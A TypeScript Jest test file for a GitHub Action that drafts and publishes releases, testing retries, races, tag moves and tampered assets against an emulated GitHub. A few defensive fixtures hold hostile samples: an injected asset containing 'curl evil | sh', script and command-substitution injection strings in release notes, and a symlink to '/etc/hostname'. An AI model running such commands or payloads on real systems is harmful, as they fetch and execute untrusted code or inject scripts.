import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { composeBody, readBody, textDigest } from '../../../actions/publish-release/release/marker.ts'
import { type GitHubEmulator, type GitHubOptions, startGitHub } from '../../emulators/github/server.ts'
import { type ActionEnd, runAction, startAction } from '../../support/action-process.ts'
import { reportViolations } from '../../support/report-schema.ts'
import { scaledTime } from '../../support/scaled-time.ts'

const time = scaledTime({ factor: 20 })
const workspace = mkdtempSync(join(tmpdir(), 'publish-release-'))
afterAll(() => rmSync(workspace, { recursive: true, force: true }))

let github: GitHubEmulator
let commit: string

async function start(options: GitHubOptions = {}): Promise<void> {
  await github?.stop()
  github = await startGitHub({
    repositories: { 'octo/service': { files: { 'README.md': '# Service' } } },
    now: time.now,
    ...options,
  })
  commit = service().git.resolve('main') ?? ''
}

beforeEach(() => start())
afterEach(async () => {
  const violations = github.violations()
  await github.stop()
  expect(violations).toEqual([])
})

function service() {
  return github.repository('octo/service')
}

function releases() {
  return service().releases.list()
}

/** What somebody else does right before a request takes effect. */
function meanwhile(operation: string, act: () => void, after = 0): void {
  github.faults.add({ operation, after, fault: { kind: 'meanwhile', act } })
}

function changeRelease(change: Partial<ReturnType<typeof releases>[number]>): void {
  Object.assign(releases()[0] ?? noRelease(), change)
}

function noRelease(): never {
  throw new Error('There is no release')
}

const notes = '## Summary\n\nBetter.'

function options(inputs: Record<string, string>, environment: Record<string, string> = {}) {
  return {
    action: 'publish-release',
    workspace,
    inputs: { tag: '1.2.3', 'github-token': github.environment.GITHUB_TOKEN ?? '', ...inputs },
    environment: { ...time.environment, ...github.environment, GITHUB_SHA: commit, ...environment },
  }
}

function draft(inputs: Record<string, string> = {}): Promise<ActionEnd> {
  return runAction(options({ mode: 'draft', title: '1.2.3: Autumn', notes, ...inputs }))
}

function publish(inputs: Record<string, string> = {}): Promise<ActionEnd> {
  return runAction(options({ mode: 'publish', ...inputs }))
}

function write(name: string, content: string): string {
  writeFileSync(join(workspace, name), content)
  return `sha256:${createHash('sha256').update(content).digest('hex')}`
}

function changes(): string[] {
  return github
    .requests()
    .filter(({ method }) => method !== 'GET')
    .map(({ operation, status }) => `${operation} ${status}`)
}

describe('draft', () => {
  test('makes the draft once, and then finds it', async () => {
    const first = await draft()
    expect(first.exitCode).toBe(0)
    const [release] = releases()
    expect(first.outputs).toMatchObject({
      outcome: 'succeeded',
      'release-id': String(release?.id),
      'release-url': expect.stringContaining('/releases/tag/untagged-'),
      tag: '1.2.3',
      target: commit,
      draft: 'true',
      immutable: 'false',
      assets: '[]',
    })
    expect(release).toMatchObject({
      tagName: '1.2.3',
      targetCommitish: commit,
      name: '1.2.3: Autumn',
      draft: true,
    })
    expect(readBody(release?.body ?? '')).toMatchObject({ notes, marker: { tag: '1.2.3', target: commit } })
    expect(reportViolations(first.report())).toEqual([])

    const second = await draft()
    expect(second.outputs).toMatchObject({ outcome: 'unchanged', 'release-id': first.outputs['release-id'] })
    expect(changes()).toEqual(['repos/create-release 201'])
    expect(service().git.resolve('refs/tags/1.2.3')).toBeUndefined()
  })

  test('reads the notes from a file, updates the draft when they change, and moves it to a new commit', async () => {
    write('notes.md', notes)
    await draft({ notes: '', 'notes-file': 'notes.md' })
    write('notes.md', 'Newer.')
    commit = service().commit({ additions: { 'a.txt': 'a' } })
    const end = await draft({ notes: '', 'notes-file': 'notes.md' })
    expect(end.outputs).toMatchObject({ outcome: 'succeeded', target: commit })
    expect(releases()).toMatchObject([
      { targetCommitish: commit, draft: true, body: expect.stringContaining('Newer.') },
    ])
  })

  test('keeps what people wrote by hand', async () => {
    await draft()
    const [release] = releases()
    if (release === undefined) throw new Error('no draft')
    release.name = 'By hand'
    expect((await draft()).outputs).toMatchObject({ outcome: 'unchanged' })
    const refused = await draft({ notes: 'Newer.' })
    expect(refused.exitCode).toBe(1)
    expect(refused.outputs).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining('edited by hand'),
    })
    expect(release.name).toBe('By hand')
  })

  test('refuses what is published, a tag elsewhere, and a draft of someone else; nothing is changed', async () => {
    service().tag('1.2.3')
    commit = service().commit({ additions: { 'a.txt': 'a' } })
    expect((await draft()).outputs.reason).toContain('The tag 1.2.3 exists at')

    service().releases.add({ tagName: '1.0.0' })
    expect((await draft({ tag: '1.0.0' })).outputs.reason).toContain('is published')

    service().releases.add({ tagName: '1.1.0', draft: true, body: 'mine' })
    expect((await draft({ tag: '1.1.0' })).outputs.reason).toContain('that this action did not make')
    expect(changes()).toEqual([])
  })

  test('takes an annotated tag at the same commit', async () => {
    service().tag('1.2.3', 'main', 'signed')
    expect((await draft()).outputs.outcome).toBe('succeeded')
  })

  test.each(['before-effect', 'after-effect'] as const)(
    'a lost answer (%s) makes no second draft',
    async (when) => {
      github.faults.add({ fault: { kind: 'reset', when }, operation: 'repos/create-release' })
      const end = await draft()
      expect(end.exitCode).toBe(0)
      expect(releases()).toHaveLength(1)
      expect(end.outputs['release-id']).toBe(String(releases()[0]?.id))
      expect(end.log).toContain('GitHub did not answer the creation of the draft')
    },
  )

  test('yields to a draft that another run made at the same time', async () => {
    const text = textDigest({ title: '1.2.3: Autumn', notes, prerelease: false })
    const body = composeBody(notes, { tag: '1.2.3', target: commit, text })
    github.faults.add({ fault: { kind: 'slow', delayMs: 700 }, operation: 'repos/create-release' })
    await using process = startAction(options({ mode: 'draft', title: '1.2.3: Autumn', notes }))
    await process.waitForLine(/Creating the draft/)
    const first = service().releases.add({
      tagName: '1.2.3',
      targetCommitish: commit,
      draft: true,
      name: '1.2.3: Autumn',
      body,
    })
    const end = await process.result
    expect(end.outputs).toMatchObject({ outcome: 'succeeded', 'release-id': String(first.id) })
    expect(releases().map(({ id }) => id)).toEqual([first.id])
  })

  /** A draft of the tag by another run, of another commit and with another text. */
  function otherDraft() {
    const target = service().commit({ branch: 'other', additions: { 'o.txt': 'o' } })
    const text = textDigest({ title: 'Other', notes: 'Other.', prerelease: false })
    const body = composeBody('Other.', { tag: '1.2.3', target, text })
    service().releases.add({ tagName: '1.2.3', targetCommitish: target, draft: true, name: 'Other', body })
  }

  test('does not call the draft of another run its own when that says something else', async () => {
    meanwhile('repos/create-release', otherDraft)
    const end = await draft()
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('someone else has changed the target, the text of'),
    })
    expect(releases()).toMatchObject([{ name: 'Other' }])
  })

  test('nor does it after a lost answer', async () => {
    github.faults.add({
      fault: { kind: 'reset', when: 'before-effect' },
      operation: 'repos/create-release',
    })
    meanwhile('repos/list-releases', otherDraft, 2)
    expect((await draft()).outputs).toMatchObject({ outcome: 'failed' })
    expect(releases()).toMatchObject([{ name: 'Other' }])
  })

  test('an update whose answer was lost is looked up before it is sent again', async () => {
    await draft()
    github.faults.add({ fault: { kind: 'reset', when: 'after-effect' }, operation: 'repos/update-release' })
    expect((await draft({ notes: 'Newer.' })).outputs).toMatchObject({ outcome: 'succeeded' })
    expect(changes().filter((change) => change.startsWith('repos/update-release'))).toHaveLength(1)

    github.faults.add({ fault: { kind: 'reset', when: 'before-effect' }, operation: 'repos/update-release' })
    meanwhile('repos/get-release', () => changeRelease({ name: 'By hand' }))
    expect((await draft({ notes: 'Newest.' })).outputs).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('someone else has changed the draft meanwhile'),
    })
    expect(releases()).toMatchObject([{ name: 'By hand', body: expect.stringContaining('Newer.') }])
  })

  test.each([
    ['published', { draft: false }, 'the state'],
    ['retargeted', { targetCommitish: 'main' }, 'the target'],
    ['edited', { body: 'x' }, 'the text'],
  ])('a draft that was %s at once is not said to be made', async (_, change, what) => {
    meanwhile('repos/list-release-assets', () => changeRelease(change))
    github.faults.add({ operation: 'repos/get-release', fault: { kind: 'status', status: 404 } })
    const end = await draft()
    expect(end.outputs).toMatchObject({ outcome: 'failed', reason: expect.stringContaining(what) })
  })

  test.each(['repos/get-release', 'repos/list-release-assets'])(
    'a draft that %s does not show for a moment is waited for',
    async (operation) => {
      github.faults.add({ operation, fault: { kind: 'status', status: 404 } })
      expect((await draft()).outputs).toMatchObject({ outcome: 'succeeded', draft: 'true' })
    },
  )

  test('throttling and server errors are waited out', async () => {
    github.faults.add({
      fault: { kind: 'secondary-rate-limit', retryAfterSeconds: 1 },
      operation: 'repos/list-releases',
    })
    github.faults.add({ fault: { kind: 'status', status: 502 }, operation: 'git/get-ref' })
    const end = await draft()
    expect(end.outputs.outcome).toBe('succeeded')
    expect(end.log).toContain('GitHub limits the rate')
  })

  test('a missing permission is named with what to write', async () => {
    await start({ job: { repository: 'octo/service', permissions: { contents: 'read' } } })
    const end = await draft()
    expect(end.exitCode).toBe(1)
    expect(end.outputs.reason).toMatch(
      /GitHub does not let the token create the draft.*permissions: \{ contents: write \}/,
    )
  })

  test('hostile text stays text', async () => {
    const hostile =
      '::set-output name=x::y\n##[error]x\n<script>alert(1)</script> @octo/team [x](javascript:1) `$(id)`'
    const end = await draft({ title: hostile.replaceAll('\n', ' '), notes: hostile })
    expect(end.outputs.outcome).toBe('succeeded')
    expect(readBody(releases()[0]?.body ?? '').notes).toBe(hostile)
    expect(end.annotations.map(({ kind }) => kind)).toEqual(['notice'])
    expect(end.summary).not.toContain('<script>')
    expect(end.masks).toContain(github.environment.GITHUB_TOKEN)
  })

  test('a dry run changes nothing; its plan is applied later, unless the world has moved', async () => {
    const dry = await runAction({
      ...options({
        mode: 'draft',
        title: '1.2.3: Autumn',
        notes,
        'dry-run': 'true',
        'report-directory': workspace,
      }),
    })
    expect(dry.outputs).toMatchObject({ outcome: 'planned', draft: '' })
    expect(changes()).toEqual([])
    const plan = dry.outputs['plan-file'] ?? ''
    expect((await draft({ plan, notes: 'Other.' })).outputs.reason).toContain('the plan is stale')
    expect((await draft({ plan })).outputs.outcome).toBe('succeeded')
    expect((await draft({ plan })).outputs).toMatchObject({ outcome: 'unchanged' })
  })
})

describe('publish', () => {
  test('attaches, verifies, publishes; a repeated run finds it done', async () => {
    const a = write('a.json', '{"a":1}')
    const b = write('b.txt', 'b')
    await draft()
    const end = await publish({ assets: 'a.json\n*.txt', target: commit })
    expect(end.exitCode).toBe(0)
    expect(end.outputs).toMatchObject({ outcome: 'succeeded', draft: 'false', tag: '1.2.3', target: commit })
    expect(JSON.parse(end.outputs.assets ?? '')).toEqual([
      { name: 'a.json', sizeBytes: 7, digest: a, url: expect.stringContaining('/1.2.3/a.json') },
      { name: 'b.txt', sizeBytes: 1, digest: b, url: expect.stringContaining('/1.2.3/b.txt') },
    ])
    const [release] = releases()
    expect(release).toMatchObject({ draft: false, tagName: '1.2.3', name: '1.2.3: Autumn' })
    expect(release?.assets.map(({ name, contentType }) => [name, contentType])).toEqual([
      ['a.json', 'application/json'],
      ['b.txt', 'text/plain; charset=utf-8'],
    ])
    expect(service().git.resolve('refs/tags/1.2.3')).toBe(commit)
    expect(service().releases.latest()?.tagName).toBe('1.2.3')
    expect(reportViolations(end.report())).toEqual([])
    expect(changes()).toEqual([
      'repos/create-release 201',
      'repos/upload-release-asset 201',
      'repos/upload-release-asset 201',
      'repos/update-release 200',
    ])

    const again = await publish({ assets: 'a.json\nb.txt' })
    expect(again.outputs).toMatchObject({
      outcome: 'unchanged',
      draft: 'false',
      'release-id': end.outputs['release-id'],
    })
    expect(changes()).toHaveLength(4)
  })

  test('an asset that is replaced or added at the moment of the publication ends red, and so does every further run', async () => {
    write('a.txt', 'good')
    await draft()
    github.faults.add({
      operation: 'repos/update-release',
      fault: {
        kind: 'meanwhile',
        act: () => {
          const [release] = releases()
          if (release === undefined) throw new Error('no draft')
          release.assets.length = 0
          service().releases.addAsset(release, { name: 'a.txt', content: 'EVIL' })
          service().releases.addAsset(release, { name: 'installer.sh', content: 'curl evil | sh' })
        },
      },
    })
    const end = await publish({ assets: 'a.txt', target: commit })
    expect(end.exitCode).toBe(1)
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      draft: 'false',
      reason: expect.stringMatching(
        /a\.txt is not there with its digest.*installer\.sh was attached by someone else/,
      ),
    })
    const again = await publish({ assets: 'a.txt', target: commit })
    expect(again.exitCode).toBe(1)
    expect(again.outputs.outcome).toBe('refused')
  })

  test('a tag that is moved at the moment of the publication, or later, ends red in every run', async () => {
    write('a.txt', 'good')
    await draft()
    const evil = service().commit({ branch: 'evil', additions: { 'README.md': 'evil' } })
    github.faults.add({
      operation: 'repos/update-release',
      fault: { kind: 'meanwhile', act: () => void service().tag('1.2.3', evil) },
    })
    const end = await publish({ assets: 'a.txt', target: commit })
    expect(end.outputs).toMatchObject({ outcome: 'failed', reason: expect.stringContaining(evil) })
    const again = await publish({ assets: 'a.txt', target: commit })
    expect(again.exitCode).toBe(1)
    expect(again.outputs).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining(`is at ${evil}, not at ${commit}. Someone moved it`),
    })
  })

  test.each([
    ['title', { name: 'EVIL' }],
    ['body', { body: 'EVIL' }],
    ['prerelease', { prerelease: true }],
  ])(
    'a %s that is changed at the moment of the publication ends red; before it, it stops it',
    async (what, change) => {
      write('a.txt', 'a')
      await draft()
      meanwhile('repos/upload-release-asset', () => changeRelease(change))
      const stopped = await publish({ assets: 'a.txt' })
      expect(stopped.outputs).toMatchObject({
        outcome: 'failed',
        draft: 'true',
        reason: expect.stringContaining(`someone changed the ${what}`),
      })
      service().releases.remove(releases()[0] ?? noRelease())
      await draft()
      meanwhile('repos/update-release', () => changeRelease(change))
      const end = await publish({ assets: 'a.txt' })
      expect(end.exitCode).toBe(1)
      expect(end.outputs).toMatchObject({
        outcome: 'failed',
        draft: 'false',
        reason: expect.stringContaining(`its ${what} is not what was drafted`),
      })
    },
  )

  test('what somebody else publishes before its time is not said to be verified', async () => {
    write('a.txt', 'a')
    await draft()
    const evil = service().commit({ branch: 'evil', additions: { 'README.md': 'evil' } })
    meanwhile('repos/upload-release-asset', () => {
      changeRelease({ draft: false })
      service().git.refs.set('refs/tags/1.2.3', evil)
    })
    const end = await publish({ assets: 'a.txt' })
    expect(end.exitCode).toBe(1)
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining(`the tag 1.2.3 is at ${evil}`),
    })
  })

  test.each(['repos/upload-release-asset', 'repos/update-release'])(
    'a release that is deleted at %s is said to be gone',
    async (operation) => {
      write('a.txt', 'a')
      await draft()
      meanwhile(operation, () => service().releases.remove(releases()[0] ?? noRelease()))
      const end = await publish({ assets: 'a.txt' })
      expect(end.outputs).toMatchObject({ outcome: 'failed', 'release-id': '' })
      expect(end.outputs.reason).toMatch(/is not there any more.*draft it again/)
      expect(reportViolations(end.report())).toEqual([])
    },
  )

  test.each(['repos/get-release', 'repos/list-release-assets'])(
    'a release that %s does not show for a moment after its publication is waited for',
    async (operation) => {
      await draft()
      meanwhile('repos/update-release', () => {
        github.faults.add({ operation, fault: { kind: 'status', status: 404 } })
      })
      expect((await publish()).outputs).toMatchObject({ outcome: 'succeeded', draft: 'false' })
    },
  )

  test('an asset that someone attaches under the same name meanwhile is not deleted', async () => {
    write('a.txt', 'a')
    await draft()
    meanwhile('repos/upload-release-asset', () => {
      service().releases.addAsset(releases()[0] ?? noRelease(), { name: 'a.txt', content: 'somebody’s' })
    })
    const end = await publish({ assets: 'a.txt' })
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      draft: 'true',
      reason: expect.stringContaining('someone attached another a.txt'),
    })
    expect(changes().filter((change) => change.startsWith('repos/delete-release-asset'))).toEqual([])
  })

  test('a commit whose tree is not the one that was checked is not published', async () => {
    await draft()
    const refused = await publish({ tree: 'f'.repeat(40) })
    expect(refused.exitCode).toBe(1)
    expect(refused.outputs).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining(`but the tree ${'f'.repeat(40)} was checked`),
    })
    expect(releases()[0]?.draft).toBe(true)
    const tree = service().git.readCommit(commit).tree
    expect((await publish({ tree })).outputs.outcome).toBe('succeeded')
  })

  test('a name that GitHub changes, and a symbolic link, are refused before anything is attached', async () => {
    write('app_1.0~rc1.deb', 'deb')
    symlinkSync('/etc/hostname', join(workspace, 'linked.txt'))
    await draft()
    expect((await publish({ assets: 'app_1.0~rc1.deb' })).outputs).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining('as `app_1.0.rc1.deb`'),
    })
    expect((await publish({ assets: 'linked.txt' })).outputs).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('symbolic link'),
    })
    expect(changes().filter((change) => change.startsWith('repos/upload'))).toEqual([])
  })

  test('globs with braces, and PEP 440 pre-releases, which never become the latest', async () => {
    write('a.zip', 'x')
    write('a.tgz', 'y')
    await draft({ tag: '1.3.0rc1' })
    const end = await publish({ tag: '1.3.0rc1', assets: '*.{zip,tgz}' })
    expect(end.outputs.outcome).toBe('succeeded')
    expect(releases()[0]).toMatchObject({ prerelease: true })
    expect(releases()[0]?.assets).toHaveLength(2)
  })

  test('a refusal for good is not said to pass', async () => {
    await draft()
    github.faults.add({
      operation: 'repos/update-release',
      fault: { kind: 'status', status: 422, message: 'tag_name was used by an immutable release' },
      times: 3,
    })
    const end = await publish()
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      reason: expect.stringMatching(
        /belonged to an immutable release.*never.*another version.*The release is still a draft\.$/,
      ),
    })
  })

  test.each(['repos/upload-release-asset', 'repos/get-release'])(
    'a rate limit at %s that outlasts the run is no missing permission, and passes',
    async (operation) => {
      write('a.txt', 'a')
      await draft()
      const fault = { kind: 'secondary-rate-limit', retryAfterSeconds: 1 } as const
      // The looks at the end are let through.
      github.faults.add({ operation, times: 4, fault })
      const end = await publish({ assets: 'a.txt' })
      expect(end.outputs).toMatchObject({ outcome: 'failed', draft: 'true' })
      expect(end.outputs.reason).toMatch(/rate limit|limits the rate/)
      expect(end.outputs.reason).toContain('running this again finishes it')
      expect(end.outputs.reason).not.toContain('permissions:')
    },
  )

  test('more releases than GitHub lists', async () => {
    for (let i = 0; i < 1_001; i++) service().releases.add({ tagName: `0.0.${i}`, draft: false })
    github.faults.add({
      operation: 'repos/list-releases',
      fault: { kind: 'status', status: 422, message: 'Only the first 1000 results are available.' },
      after: 10,
      times: 1,
    })
    expect((await draft()).outputs.outcome).toBe('succeeded')
  })

  test('keeps what is attached already, replaces what differs, removes a broken upload', async () => {
    write('same.txt', 'same')
    write('other.txt', 'new')
    write('broken.txt', 'whole')
    await draft()
    const [release] = releases()
    if (release === undefined) throw new Error('no draft')
    const same = service().releases.addAsset(release, { name: 'same.txt', content: 'same' })
    service().releases.addAsset(release, { name: 'other.txt', content: 'old' })
    service().releases.addAsset(release, { name: 'broken.txt', content: 'wh', state: 'starter' })
    const end = await publish({ assets: 'same.txt, other.txt, broken.txt' })
    expect(end.outputs.outcome).toBe('succeeded')
    expect(release.assets.find(({ name }) => name === 'same.txt')?.id).toBe(same.id)
    expect(release.assets.map(({ content }) => content.toString()).sort()).toEqual(['new', 'same', 'whole'])
  })

  test('an upload that breaks is begun again', async () => {
    write('a.txt', 'a')
    await draft()
    github.faults.add({
      fault: { kind: 'reset', when: 'after-effect' },
      operation: 'repos/upload-release-asset',
    })
    github.faults.add({ fault: { kind: 'status', status: 502 }, operation: 'repos/update-release' })
    const end = await publish({ assets: 'a.txt' })
    expect(end.outputs.outcome).toBe('succeeded')
    expect(releases()[0]?.assets).toHaveLength(1)
  })

  test('a lost answer to the publication is looked up, not sent twice', async () => {
    await draft()
    github.faults.add({ fault: { kind: 'reset', when: 'after-effect' }, operation: 'repos/update-release' })
    const end = await publish()
    expect(end.outputs).toMatchObject({ outcome: 'succeeded', draft: 'false' })
    expect(changes().filter((change) => change.startsWith('repos/update-release'))).toHaveLength(1)
  })

  test('uploads that fail for good leave a draft, and the next run finishes it', async () => {
    write('a.txt', 'a')
    write('b.txt', 'b')
    await draft()
    github.faults.add({
      fault: { kind: 'status', status: 502 },
      operation: 'repos/upload-release-asset',
      after: 1,
      times: 3,
    })
    const failed = await publish({ assets: 'a.txt, b.txt' })
    expect(failed.exitCode).toBe(1)
    expect(failed.outputs).toMatchObject({
      outcome: 'failed',
      draft: 'true',
      reason: expect.stringMatching(/b\.txt could not be attached.*running this again finishes it/),
    })
    expect(service().git.resolve('refs/tags/1.2.3')).toBeUndefined()

    const end = await publish({ assets: 'a.txt, b.txt' })
    expect(end.outputs.outcome).toBe('succeeded')
    expect(changes().filter((change) => change === 'repos/upload-release-asset 201')).toHaveLength(2)
  })

  test('cancelled before the publication it stays a draft, and the next run finishes it', async () => {
    write('a.txt', 'a')
    await draft()
    github.faults.add({ fault: { kind: 'slow', delayMs: 3_000 }, operation: 'repos/upload-release-asset' })
    await using process = startAction(options({ mode: 'publish', assets: 'a.txt' }))
    await process.waitForLine(/Attaching a\.txt/)
    const cancelled = await process.cancel()
    expect(cancelled.exitCode).toBe(1)
    expect(cancelled.outputs).toMatchObject({ outcome: 'cancelled', draft: 'true' })
    expect(releases()).toMatchObject([{ draft: true }])
    github.faults.clear()
    expect((await publish({ assets: 'a.txt' })).outputs).toMatchObject({
      outcome: 'succeeded',
      draft: 'false',
    })
  })

  test('killed before the publication it stays a draft, and the next run finishes it', async () => {
    write('a.txt', 'a')
    await draft()
    github.faults.add({ fault: { kind: 'slow', delayMs: 3_000 }, operation: 'repos/update-release' })
    await using process = startAction(options({ mode: 'publish', assets: 'a.txt' }))
    await process.waitForLine(/Publishing the draft/)
    await process.kill()
    github.faults.clear()
    const end = await publish({ assets: 'a.txt' })
    expect(end.exitCode).toBe(0)
    expect(end.outputs.draft).toBe('false')
    expect(releases()[0]?.assets).toHaveLength(1)
  })

  test('what people change between the plan and the publication stops it', async () => {
    write('a.txt', 'a')
    await draft()
    github.faults.add({ fault: { kind: 'slow', delayMs: 600 }, operation: 'repos/upload-release-asset' })
    await using process = startAction(options({ mode: 'publish', assets: 'a.txt' }))
    await process.waitForLine(/Attaching a\.txt/)
    const [release] = releases()
    if (release === undefined) throw new Error('no draft')
    release.targetCommitish = service().commit({ additions: { 'b.txt': 'b' } })
    const end = await process.result
    expect(end.outputs).toMatchObject({
      outcome: 'failed',
      draft: 'true',
      reason: expect.stringContaining('someone changed the target'),
    })
  })

  test.each([
    [
      'a tag elsewhere',
      () => service().git.refs.set('refs/tags/1.2.3', service().commit({ additions: { c: 'c' } })),
      'exists at',
    ],
    ['another commit than wanted', () => service().commit({ additions: { c: 'c' } }), 'is of'],
  ])('refuses %s', async (what, prepare, reason) => {
    await draft()
    const other = prepare()
    const end = await publish(what.startsWith('another') ? { target: String(other) } : {})
    expect(end.outputs).toMatchObject({ outcome: 'refused', reason: expect.stringContaining(reason) })
    expect(releases()).toMatchObject([{ draft: true }])
  })

  test('without a draft it refuses, and says what to do', async () => {
    const end = await publish()
    expect(end.outputs).toMatchObject({
      outcome: 'refused',
      draft: '',
      reason: expect.stringContaining('mode: draft'),
    })
  })

  test('a patch of an old line does not become the latest', async () => {
    service().releases.add({ tagName: '2.0.0' })
    await draft()
    await publish()
    expect(service().releases.latest()?.tagName).toBe('2.0.0')
  })

  test('in a repository with immutable releases the release is immutable', async () => {
    const repositories = { 'octo/service': { files: { 'README.md': '# Service' }, immutableReleases: true } }
    await start({
      repositories,
      job: { repository: 'octo/service', permissions: { contents: 'write', administration: 'read' } },
    })
    write('a.txt', 'a')
    await draft()
    const end = await publish({ assets: 'a.txt' })
    expect(end.outputs).toMatchObject({ outcome: 'succeeded', immutable: 'true' })
  })
})
